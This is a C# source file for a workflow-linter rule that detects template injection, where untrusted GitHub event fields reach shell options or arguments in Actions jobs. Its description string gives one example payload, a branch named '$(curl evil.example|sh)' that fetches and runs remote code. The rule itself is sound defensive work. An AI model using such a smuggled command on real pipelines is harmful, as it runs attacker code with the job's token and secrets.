using Pipeline.Workflows.Documents;
using Pipeline.Workflows.Expressions;
using Pipeline.Yaml;

namespace Pipeline.Workflows.Rules.Security;

internal sealed class UntrustedInput() : Rule(
    "untrusted-input",
    "What strangers fill in (titles, texts, names of branches) stands in no folder, shell, argument, option or variable from which a command line is made",
    "A branch named `$(curl evil.example|sh)` runs with the job's token and secrets",
    Sources.Zizmor + "template-injection")
{
    /// <summary>Where text of a job reaches a shell or a command line; <c>*</c> is any name. Scripts take no expression at all: `expression-in-script`.</summary>
    private static readonly string[] Places =
    [
        "container.options", "container.env", "services.*.options", "services.*.env", "services.*.entrypoint", "services.*.command",
        "defaults.run.shell", "defaults.run.working-directory", "steps.shell", "steps.working-directory", "steps.with.args", "steps.with.entrypoint",
    ];

    /// <summary>
    /// The parts of an event that anybody may fill in who opens an issue or a pull request, or pushes to a fork.
    /// Source: https://docs.github.com/en/actions/concepts/security/script-injections
    /// </summary>
    private static readonly string[] Strangers =
    [
        "*", "changes", "client_payload", "comment", "commits", "discussion", "head_commit", "issue", "merge_group", "pages", "pull_request", "review", "review_comment", "workflow_run",
    ];

    /// <summary>What GitHub fills in itself.</summary>
    private static readonly string[] OfGitHub = ["draft", "id", "merged", "number", "sha", "state"];

    public override IEnumerable<Remark> Check(Inspection file) =>
        from job in file.Jobs
        from place in Places
        from scalar in At(job.Node, place.Split('.'))
        from part in ParsedText.Parse(scalar.Value).Parts
        where part.Expression?.Syntax is { } syntax && Read(syntax).Any(x => IsOfStrangers([.. Names(x)]))
        select new Remark(
            ScalarPlace.Of(file.Document, scalar, part.Offset), $"`{scalar.Value.Substring(part.Offset, part.Length)}` is filled in by strangers and becomes part of a command line here",
            "hand it to a script as a variable of the step's `env`, and check it there");

    /// <summary>The texts at a place and below it; items of lists have no names.</summary>
    private static IEnumerable<YamlScalar> At(YamlNode? node, ReadOnlyMemory<string> path) => node switch
    {
        YamlScalar scalar => path.IsEmpty ? [scalar] : [],
        YamlSequence sequence => sequence.Items.SelectMany(x => At(x, path)),
        YamlMapping mapping => mapping.Entries.Where(x => path.IsEmpty || path.Span[0] == "*" || path.Span[0] == x.Key.Value)
            .SelectMany(x => At(x.Value, path.IsEmpty ? path : path[1..])),
        _ => [],
    };

    private static bool IsOfStrangers(IReadOnlyList<string> names) => names switch
    {
        ["github"] or ["github", "head_ref" or "*", ..] or ["github", "event"] => true,
        ["github", "event", var part, ..] => Strangers.Contains(part) && !OfGitHub.Contains(names[^1]),
        _ => false,
    };

    /// <summary>What is read of contexts, also through functions: <c>fromJSON(toJSON(github.event)).issue</c> reads <c>github.event</c>.</summary>
    private static IEnumerable<Syntax> Read(Syntax syntax) => SyntaxWalk.Accesses(syntax).SelectMany(x => Root(x) is var root and not ContextAccess ? Read(root) : [x]);

    private static Syntax Root(Syntax access) => access switch
    {
        PropertyAccess property => Root(property.Target),
        IndexAccess index => Root(index.Target),
        Wildcard wildcard => Root(wildcard.Target),
        _ => access,
    };

    /// <summary>The names of an access from the context on, in lower case, as GitHub compares them; <c>*</c> where any may be meant.</summary>
    private static IEnumerable<string> Names(Syntax access) => access switch
    {
        ContextAccess context => [context.Name.ToLowerInvariant()],
        PropertyAccess property => Names(property.Target).Append(property.Name.ToLowerInvariant()),
        IndexAccess index => Names(index.Target).Append(index.Key is StringLiteral key ? key.Value.ToLowerInvariant() : "*"),
        Wildcard wildcard => Names(wildcard.Target).Append("*"),
        _ => ["*"],
    };
}
